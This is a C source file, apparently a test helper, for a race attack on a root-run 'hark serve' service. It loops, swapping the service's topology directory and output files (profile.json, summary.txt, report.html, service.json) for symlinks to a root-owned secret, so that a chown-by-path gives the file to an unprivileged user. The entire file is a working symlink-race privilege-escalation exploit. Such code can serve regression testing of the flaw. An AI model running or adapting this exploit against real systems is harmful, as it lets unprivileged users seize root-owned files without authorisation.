/* Run by a user against their own run directory of a `hark serve` running
 * as root: as fast as it can, swaps the entries the service hands over
 * (`topology`, the `.dot` files in it, `profile.json` and the other files)
 * for symlinks to a file of root's, so that a service that chowns by path
 * gives that file to the user.
 *
 * swap_links NAME_FILE SECRET DECOYS STOP: waits for NAME_FILE to name the
 * run directory, then loops until STOP exists. DECOYS is a directory of
 * links named like the `.dot` files, all to SECRET. */
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 5) {
        fprintf(stderr, "usage: swap_links NAME_FILE SECRET DECOYS STOP\n");
        return 2;
    }
    const char *secret = argv[2], *decoys = argv[3], *stop = argv[4];
    char dir[4096] = "";
    while (!dir[0]) {
        if (access(stop, F_OK) == 0)
            return 0;
        FILE *f = fopen(argv[1], "r");
        if (f) {
            if (!fgets(dir, sizeof dir, f))
                dir[0] = 0;
            fclose(f);
            dir[strcspn(dir, "\n")] = 0;
        }
    }
    static const char *files[] = {"profile.json", "summary.txt", "report.html",
                                  "service.json"};
    char topo[4200], old[4200], tmp[4200], target[4200];
    snprintf(topo, sizeof topo, "%s/topology", dir);
    snprintf(old, sizeof old, "%s/.topology-old", dir);
    snprintf(tmp, sizeof tmp, "%s/.link", dir);
    long swaps = 0;
    /* The directory becomes the user's at one moment: until then, one
     * system call per turn, the one that wins the most. */
    for (unsigned long i = 0;; i++) {
        if ((i & 4095) == 0 && access(stop, F_OK) == 0)
            break;
        if (rename(topo, old) == 0) {
            if (symlink(decoys, topo) == 0)
                swaps++;
            break;
        }
    }
    for (unsigned long i = 0;; i++) {
        if ((i & 1023) == 0 && access(stop, F_OK) == 0)
            break;
        for (unsigned k = 0; k < sizeof files / sizeof *files; k++) {
            snprintf(target, sizeof target, "%s/%s", dir, files[k]);
            unlink(tmp);
            if (symlink(secret, tmp) == 0 && rename(tmp, target) == 0)
                swaps++;
        }
    }
    printf("%ld swaps\n", swaps);
    return 0;
}
